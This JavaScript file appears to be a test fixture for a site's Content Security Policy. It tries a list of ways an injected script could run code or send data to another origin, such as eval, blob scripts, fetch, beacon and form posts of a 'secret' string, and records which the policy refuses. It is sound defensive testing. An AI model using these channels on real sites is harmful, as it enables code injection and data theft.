// What somebody would try who can run a script on a page of ours. Runs in the page, as a file of our own origin.
'use strict';
(() => {
  const other = document.querySelector('meta[name=other]').content;
  const seen = [];
  let tell = () => {};
  const add = (what) => {
    seen.push(what);
    tell();
  };
  addEventListener('securitypolicyviolation', (event) => add(`refused ${event.effectiveDirective}`));
  globalThis.hit = () => add('done');

  const element = (name, attributes) => {
    const made = document.createElement(name);
    // A frame tells of a load also when what it shows is a page of the browser that refuses; its host hears of a real one.
    if ('onload' in made && !['iframe', 'object', 'embed'].includes(name)) made.addEventListener('load', hit);
    for (const [key, value] of Object.entries(attributes)) made.setAttribute(key, value);
    document.body.append(made);
    return made;
  };
  const blob = (text) => URL.createObjectURL(new Blob([text], { type: 'text/javascript' }));
  const font = (url) => new FontFace('attempt', `url(${url})`).load().then(hit);

  const attempts = {
    eval: () => (0, eval)('hit()'),
    function: () => new Function('hit()')(),
    timer: () => setTimeout('hit()'),
    blobScript: () => import(blob('hit()')),
    text: () => {
      const script = document.createElement('script');
      script.text = 'hit()';
      document.body.append(script);
    },
    address: () => element('script', { src: `${other}/address.js` }),
    link: () => {
      const link = element('a', { href: 'javascript:hit()' });
      link.click();
    },
    innerHtml: () => {
      document.getElementById('target').innerHTML = '<b>.</b>';
      hit();
    },
    write: () => {
      document.getElementById('target').insertAdjacentHTML('beforeend', '<b>.</b>');
      hit();
    },
    policy: () => {
      trustedTypes.createPolicy('default', { createHTML: (text) => text });
      hit();
    },
    worker: () => {
      new Worker(blob('postMessage(1)')).onmessage = hit;
    },
    image: () => element('img', { src: `${other}/image.svg` }),
    dataImage: () => element('img', { src: 'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" width="1" height="1"/>' }),
    style: () => element('link', { rel: 'stylesheet', href: `${other}/style.css` }),
    font: () => font(`${other}/font.woff2`),
    dataFont: async () => {
      const bytes = new Uint8Array(await (await fetch('fonts/noto-sans-latin.woff2')).arrayBuffer());
      await font(`data:font/woff2;base64,${btoa(String.fromCharCode(...bytes))}`);
    },
    fetch: () => fetch(`${other}/fetch`).then(hit),
    request: () => {
      const request = new XMLHttpRequest();
      request.onload = hit;
      request.open('POST', `${other}/request`);
      request.send('secret');
    },
    socket: () => new WebSocket(`${other.replace('http', 'ws')}/socket`),
    stream: () => {
      new EventSource(`${other}/stream`).onopen = hit;
    },
    beacon: () => navigator.sendBeacon(`${other}/beacon`, 'secret'),
    form: () => {
      // Into a frame, or the page would leave.
      const frame = document.createElement('iframe');
      frame.name = 'answer';
      document.body.append(frame);
      element('form', { method: 'post', action: `${other}/form`, target: 'answer' }).submit();
    },
    frame: () => element('iframe', { src: `${other}/frame` }),
    object: () => element('object', { data: `${other}/object` }),
    embed: () => element('embed', { src: `${other}/embed`, type: 'text/html' }),
    sound: () => element('audio', { preload: 'auto', src: `${other}/sound` }),
    base: () => {
      const base = document.createElement('base');
      base.href = `${other}/base/`;
      document.head.append(base);
      if (document.baseURI.startsWith(other)) hit();
    },
    manifest: () => {
      document.querySelector('link[rel=manifest]').href = `${other}/manifest.webmanifest`;
    },
    wasm: () => WebAssembly.compile(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])).then(hit),
    blobImage: () => {
      const bytes = ['<svg xmlns="http://www.w3.org/2000/svg" width="1" height="1"/>'];
      element('img', { src: URL.createObjectURL(new Blob(bytes, { type: 'image/svg+xml' })) });
    },
    ownFetch: () => fetch('fonts/noto-sans-latin.woff2').then(hit),
  };

  /** Tries it in a task of its own, and tells what came of it first. */
  globalThis.attempt = (name) =>
    new Promise((resolve) => {
      tell = () => resolve(seen[0]);
      setTimeout(async () => {
        try {
          await attempts[name]();
        } catch {
          // What is refused with an error is told by an event as well.
        }
      });
    });

  /** What the markup of the page came to. */
  globalThis.outcome = () =>
    new Promise((resolve) => {
      const look = () => {
        const { outlineStyle, outlineColor } = getComputedStyle(
          document.querySelector('[data-styled]') ?? document.getElementById('target'),
        );
        if (outlineStyle === 'solid' && outlineColor === 'rgb(1, 2, 3)') add('done');
        if (seen.length > 0) resolve(seen[0]);
      };
      tell = () => resolve(seen[0]);
      addEventListener('load', look);
      look();
    });
})();
